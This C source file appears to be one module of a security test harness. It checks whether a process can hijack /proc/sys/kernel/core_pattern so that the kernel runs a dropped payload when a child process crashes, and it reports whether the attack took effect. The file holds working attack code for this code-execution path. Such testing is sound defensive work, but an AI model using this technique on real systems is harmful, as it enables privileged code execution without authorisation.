// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1, G3. Makes the kernel run a program of the intruder at the next crash:
 * /proc/sys/kernel/core_pattern. Source: root-paths, "user-mode helpers". Control: the
 * crash of a child runs it.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

static const char pattern[] = "/proc/sys/kernel/core_pattern";

static void set(const char *text)
{
	int fd = open(pattern, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		no_effect(errno);
	close(fd);
}

void attack(void)
{
	const char *mark = "/tmp/lab-core-ran";
	const struct timespec moment = { .tv_nsec = 20000000 };
	pid_t pid;

	unlink(mark);
	drop("foreign/payload", "/tmp/lab-core");
	set("|/tmp/lab-core /tmp/lab-core-ran");
	pid = fork();
	if (pid == 0)
		abort();
	waitpid(pid, NULL, 0);
	set("core");
	/* The helper runs beside us: up to ten seconds. */
	for (int i = 0; i < 500; i++) {
		if (file_begins(mark, FOREIGN_TEXT))
			effect();
		nanosleep(&moment, NULL);
	}
	no_effect(errno);
}
